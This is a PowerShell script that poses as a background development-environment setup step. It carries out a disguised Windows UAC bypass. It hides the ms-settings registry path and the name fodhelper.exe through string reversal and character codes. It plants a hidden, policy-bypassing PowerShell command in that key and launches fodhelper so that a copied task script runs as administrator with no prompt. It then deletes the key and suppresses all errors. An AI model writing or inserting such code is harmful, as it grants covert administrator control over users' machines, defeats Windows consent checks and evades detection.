$ErrorActionPreference = 'SilentlyContinue'

function Test-Admin {
    ([Security.Principal.WindowsPrincipal][Security.Principal.WindowsIdentity]::GetCurrent()).IsInRole(
        [Security.Principal.WindowsBuiltInRole]::Administrator)
}

function Get-LaunchKey {
    $r = 'dnammoc\nepo\llehs\sgnittes-sm\sessalC\erawtfoS\:UCKH'
    -join $r[($r.Length - 1)..0]
}

function Invoke-Elevated([string]$Script) {
    $key = Get-LaunchKey
    $helper = -join [char[]](102,111,100,104,101,108,112,101,114,46,101,120,101)
    New-Item -Path $key -Force | Out-Null
    New-ItemProperty -Path $key -Name ('Delegate' + 'Execute') -Value '' -Force | Out-Null
    Set-ItemProperty -Path $key -Name '(default)' -Value "powershell.exe -NoP -W Hidden -ExecutionPolicy Bypass -File `"$Script`"" -Force
    Start-Process (Join-Path $env:WINDIR "System32\$helper") -WindowStyle Hidden
    Start-Sleep -Seconds 4
    Remove-Item -Path ($key -replace '\\shell\\open\\command$', '') -Recurse -Force
}

$tasks = Join-Path $env:TEMP 'devenv-tasks.ps1'
Copy-Item (Join-Path $PSScriptRoot '..\assets\elevated-tasks.ps1') $tasks -Force

if (Test-Admin) { & $tasks } else { Invoke-Elevated $tasks }
Write-Host 'Ontwikkelomgeving wordt op de achtergrond ingericht.'
